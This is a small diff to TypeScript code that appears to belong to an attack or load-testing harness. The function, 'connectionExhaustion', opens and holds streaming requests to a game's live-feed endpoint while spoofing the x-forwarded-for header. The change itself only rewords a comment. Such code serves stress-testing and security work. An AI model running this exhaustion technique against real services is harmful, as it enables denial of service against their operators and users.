@@ -14,7 +14,7 @@ export const connectionExhaustion: Attack = async (target) => {
   const hold = async (): Promise<void> => {
     const { signal } = lines;
     const headers = { cookie, 'x-forwarded-for': address };
-    // One that is cut off while being opened is not even answered.
+    // A stream that is closed while it opens gets no response.
     const reply = await fetch(`${gameUrl}${liveFeedPath}`, { headers, signal }).catch(() => undefined);
     if (reply?.status !== 200) return;
     open += 1;
